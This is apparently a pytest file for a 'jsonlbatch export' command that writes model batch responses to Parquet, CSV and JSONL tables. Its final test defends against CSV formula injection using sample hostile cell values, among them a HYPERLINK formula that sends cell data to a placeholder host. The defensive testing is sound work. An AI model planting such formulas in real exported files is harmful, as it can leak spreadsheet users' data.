"""`jsonlbatch export`: responses and post outputs as Parquet, CSV and JSONL tables, read back
by pandas, pyarrow and `datasets`; `--into` a dataset table; bounded memory on a large file."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import orjson
import pytest
from batchutil import cli
from postutil import ENV, chat_line, expired_line, post, read_jsonl, write_jsonl

pa = pytest.importorskip("pyarrow", reason="the parquet extra is not installed")
pq = pytest.importorskip("pyarrow.parquet")
pd = pytest.importorskip("pandas", reason="pandas (test extra) reads the tables back")

from jsonlbatch.errors import InputError  # noqa: E402
from jsonlbatch.post.export import export, sample_number  # noqa: E402


def run(*args: str) -> subprocess.CompletedProcess:
    """`jsonlbatch export ARGS...`, in-process as `batchutil.cli` runs it."""
    return cli("export", *map(str, args), env=ENV)


def with_metrics(line: dict, **metrics: float) -> dict:
    line["metrics"] = {"latency_s": 0.5, **metrics}
    return line


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    """Two tasks x 2 samples (one failed, one with n=2), plus a request never answered."""
    responses = write_jsonl(
        tmp_path / "responses.jsonl",
        [
            with_metrics(
                chat_line("t1|0", "The answer is \\boxed{4}", reasoning="2+2"), ttft_s=0.1
            ),
            with_metrics(chat_line("t1|1", "\\boxed{4}", "\\boxed{5}")),
            expired_line("t2|0"),
            chat_line("t2|1", '```json title="out.json"\n{"x": 1}\n```', finish="length"),
        ],
    )
    requests = write_jsonl(
        tmp_path / "requests.jsonl",
        [
            {"custom_id": cid, "method": "POST", "url": "/v1/chat/completions",
             "body": {"model": "Qwen/Qwen3-8B", "messages": [{"role": "user", "content": "q"}]}}
            for cid in ("t1|0", "t1|1", "t2|0", "t2|1", "t3|0")
        ],
    )  # fmt: skip
    return {"responses": responses, "requests": requests, "dir": tmp_path}


def test_sample_number() -> None:
    assert sample_number("django__django-11099|3", "django__django-11099") == 3
    assert sample_number("q__pass12", "q") == 12
    assert sample_number("q|1²", "q") is None  # a superscript is no sample number
    assert sample_number("q", "q") is None


def test_parquet_rows_and_columns(files: dict[str, Path]) -> None:
    out = files["dir"] / "results.parquet"
    result = run(files["responses"], "--requests", files["requests"], "-o", out)
    assert result.returncode == 0, result.stderr
    assert "1 requests have no response line" in result.stderr
    table = pq.read_table(out)
    assert table.schema.field("sample").type == pa.int64()
    assert table.schema.field("latency_s").type == pa.float64()
    rows = {r["custom_id"]: r for r in table.to_pylist()}
    assert list(rows) == ["t1|0", "t1|1", "t2|0", "t2|1", "t3|0"]
    first = rows["t1|0"]
    assert (first["group"], first["sample"], first["status"]) == ("t1", 0, "ok")
    assert first["answer"] == "The answer is \\boxed{4}" and first["reasoning"] == "2+2"
    assert (first["prompt_tokens"], first["completion_tokens"]) == (10, 20)
    assert (first["latency_s"], first["ttft_s"]) == (0.5, 0.1)
    assert first["model"] == "Qwen/Qwen3-8B"
    assert rows["t1|1"]["choices"] == 2 and rows["t1|1"]["answer"] == "\\boxed{4}"
    assert rows["t2|0"]["status"] == "failed" and "could not be executed" in rows["t2|0"]["error"]
    assert rows["t2|0"]["answer"] is None
    assert rows["t2|1"]["finish_reason"] == "length"
    assert rows["t3|0"]["status"] == "missing" and rows["t3|0"]["model"] == "Qwen/Qwen3-8B"


def test_per_choice_and_every_format_reads_back(files: dict[str, Path]) -> None:
    d = files["dir"]
    for name in ("c.parquet", "c.csv", "c.jsonl"):
        result = run(files["responses"], "--per", "choice", "-o", d / name)
        assert result.returncode == 0, result.stderr
    frames = [
        pd.read_parquet(d / "c.parquet"),
        pd.read_csv(d / "c.csv"),
        pd.read_json(d / "c.jsonl", lines=True),
    ]
    for frame in frames:
        assert len(frame) == 5  # t1|1 has two choices
        assert list(frame[frame.custom_id == "t1|1"]["choice"]) == [0, 1]
        assert list(frame[frame.custom_id == "t1|1"]["answer"]) == ["\\boxed{4}", "\\boxed{5}"]
    with open(d / "c.csv", newline="") as fh:
        header = next(csv.reader(fh))
    assert header[:3] == ["custom_id", "group", "sample"]


def test_datasets_reads_the_parquet(files: dict[str, Path], tmp_path: Path) -> None:
    datasets = pytest.importorskip("datasets", reason="the datasets library is not installed")
    out = files["dir"] / "r.parquet"
    export(str(files["responses"]), str(out))
    os.environ.setdefault("HF_DATASETS_OFFLINE", "1")
    ds = datasets.Dataset.from_parquet(str(out), cache_dir=str(tmp_path / "hf"))
    assert ds.num_rows == 4 and ds[0]["custom_id"] == "t1|0"


def test_joins_votes_patches_and_files(files: dict[str, Path]) -> None:
    d = files["dir"]
    votes = d / "votes.jsonl"
    gold = write_jsonl(d / "gold.jsonl", [{"id": "t1", "answer": "4"}])
    done = post("votes", files["responses"], "--gold", gold, "-o", votes)
    assert done.returncode == 0, done.stderr
    done = post("files", files["responses"], "--out-dir", d / "files", "--use-truncated")
    assert done.returncode == 0, done.stderr
    preds = write_jsonl(
        d / "preds.jsonl",
        [{"instance_id": "t1", "model_name_or_path": "m", "model_patch": "diff --git a/x b/x\n"}],
    )
    out = d / "joined.jsonl"
    result = run(files["responses"], "--votes", votes, "--patches", preds, "--files", d / "files", "-o", out)  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows = {r["custom_id"]: r for r in read_jsonl(out)}
    assert rows["t1|0"]["voted_answer"] == "4" and rows["t1|0"]["correct"] is True
    assert rows["t1|0"]["patch"].startswith("diff --git")
    assert rows["t2|0"]["patch"] is None
    assert rows["t2|1"]["files"] == ["t2|1/out.json"]
    assert (d / "files" / rows["t2|1"]["files"][0]).read_text().strip() == '{"x": 1}'
    assert rows["t1|0"]["files"] == []


def test_into_a_dataset_keeps_every_row_and_column(files: dict[str, Path]) -> None:
    """The GDPVal step: deliverable_text and deliverable_files filled into the task table."""
    d = files["dir"]
    responses = write_jsonl(
        d / "gdp.jsonl",
        [chat_line("task-a", "Report A"), chat_line("task-b", "Report B"), expired_line("task-c")],
    )
    base = d / "tasks.parquet"
    pq.write_table(
        pa.table(
            {
                "task_id": ["task-a", "task-b", "task-c", "task-d"],
                "sector": ["finance", "law", "law", "health"],
                "deliverable_text": [None, None, None, None],
                "weight": [1.5, 2.0, 0.5, 1.0],
            }
        ),
        base,
    )
    out = d / "filled.parquet"
    result = run(
        responses, "--into", base, "--on", "task_id",
        "--column", "deliverable_text=answer", "--column", "status", "-o", out,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "4 dataset rows, 1 without a result" in result.stderr
    assert "replaced dataset columns: deliverable_text" in result.stderr
    table = pq.read_table(out)
    assert table.column_names == ["task_id", "sector", "weight", "deliverable_text", "status"]
    assert table.schema.field("weight").type == pa.float64()
    rows = table.to_pylist()
    assert [r["task_id"] for r in rows] == ["task-a", "task-b", "task-c", "task-d"]
    assert rows[0]["deliverable_text"] == "Report A" and rows[0]["sector"] == "finance"
    assert rows[2]["status"] == "failed" and rows[2]["deliverable_text"] is None
    assert rows[3]["status"] is None and rows[3]["weight"] == 1.0


def test_into_by_group_repeats_rows_per_sample(files: dict[str, Path]) -> None:
    d = files["dir"]
    base = d / "tasks.csv"
    base.write_text("id,topic\nt1,math\nt9,none\n")
    out = d / "by_group.csv"
    result = run(files["responses"], "--into", base, "--on", "id", "--column", "answer", "-o", out)
    assert result.returncode == 0, result.stderr
    frame = pd.read_csv(out)
    assert list(frame["id"]) == ["t1", "t1", "t9"]  # a left join: one row per matching sample
    assert frame["answer"].isna().tolist() == [False, False, True]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--into", "{base}"], "--into and --on go together"),
        (["--into", "{base}", "--on", "nope"], "no such column"),
        (["--column", "bogus"], "no result column 'bogus'"),
        (["--votes", "{responses}"], "not a file this option reads"),
    ],
)
def test_usage_errors_are_clean_and_write_nothing(
    files: dict[str, Path], args: list[str], message: str
) -> None:
    d = files["dir"]
    base = d / "b.csv"
    base.write_text("id\nt1\n")
    out = d / "never.parquet"
    filled = [a.format(base=base, responses=files["responses"]) for a in args]
    result = run(files["responses"], *filled, "-o", out)
    assert result.returncode != 0
    assert message in result.stderr and "Traceback" not in result.stderr
    assert not out.exists()
    assert not [p for p in os.listdir(d) if p.endswith(".tmp")]


def test_bad_responses_change_no_existing_output(files: dict[str, Path]) -> None:
    d = files["dir"]
    out = d / "keep.jsonl"
    out.write_text("previous\n")
    bad = d / "bad.jsonl"
    bad.write_text(
        json.dumps(chat_line("a", "x")) + "\n{not json\n" + json.dumps(chat_line("b", "y")) + "\n"
    )
    result = run(bad, "-o", out)
    assert result.returncode != 0 and "bad.jsonl:2" in result.stderr
    assert out.read_text() == "previous\n"


def _export_growth(tmp_path: Path, count: int) -> int:
    """MB the process grows by while exporting `count` responses with 4 KB answers."""
    line = orjson.dumps(chat_line("x", "y" * 4000))
    path = tmp_path / f"big{count}.jsonl"
    with open(path, "wb") as fh:
        for i in range(count):
            fh.write(line.replace(b'"custom_id":"x"', b'"custom_id":"q%d|0"' % i) + b"\n")
    out = tmp_path / f"big{count}.parquet"
    code = (
        "import resource\n"
        "import pyarrow.parquet\n"
        "from jsonlbatch.post.export import export\n"
        "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024\n"
        f"s = export({str(path)!r}, {str(out)!r})\n"
        "print(s.rows, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024 - base)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=ENV, timeout=300
    )
    rows, growth_mb = map(int, done.stdout.split())
    meta = pq.ParquetFile(out).metadata
    assert rows == meta.num_rows == count
    assert meta.num_row_groups >= count // 8192  # written in row groups, not at once
    return growth_mb


def test_a_large_file_exports_in_bounded_memory(tmp_path: Path) -> None:
    """Four times the responses (40 MB -> 160 MB of answers) must not grow the process by more
    than a few MB: memory is set by the row group, not the file (the million-line figure is in
    docs/performance.md)."""
    small = _export_growth(tmp_path, 10_000)
    large = _export_growth(tmp_path, 40_000)
    assert large - small < 40, f"10k rows: +{small} MB, 40k rows: +{large} MB"


def test_into_a_table_with_a_repeated_column_is_refused_naming_it(files: dict[str, Path]) -> None:
    """CSV `task_id,v,v` or a Parquet table with two `v`: a row's dict would keep one of them."""
    d = files["dir"]
    responses = write_jsonl(d / "one.jsonl", [chat_line("a", "A")])
    csv_base = d / "dup.csv"
    csv_base.write_text("task_id,v,v\na,1,2\n")
    result = run(responses, "--into", csv_base, "--on", "task_id", "-o", d / "o.csv")
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "dup.csv" in result.stderr and "'v' appears more than once" in result.stderr
    assert not (d / "o.csv").exists()
    pq_base = d / "dup.parquet"
    table = pa.Table.from_arrays(
        [pa.array(["a"]), pa.array([1]), pa.array([2])], ["task_id", "v", "v"]
    )
    pq.write_table(table, pq_base)
    with pytest.raises(InputError, match="bad dataset table") as caught:
        export([str(responses)], str(d / "o.parquet"), into=str(pq_base), on="task_id")
    assert [(p.field, p.line) for p in caught.value.problems] == [("v", None)]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path: Path) -> None:
    evil = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "plain -1"]
    responses = write_jsonl(
        tmp_path / "r.jsonl", [chat_line(f"=id{i}", text) for i, text in enumerate(evil)]
    )
    out = tmp_path / "t.csv"
    assert run(responses, "-o", out, "--column", "custom_id", "--column", "answer").returncode == 0
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["answer"] for r in rows] == ["'" + t for t in evil[:5]] + ["plain -1"]
    assert all(r["custom_id"].startswith("'=id") for r in rows)
    raw = run(responses, "-o", out, "--csv-raw", "--column", "answer")
    assert raw.returncode == 0, raw.stderr
    with open(out, newline="") as f:
        assert [r["answer"] for r in csv.DictReader(f)] == evil
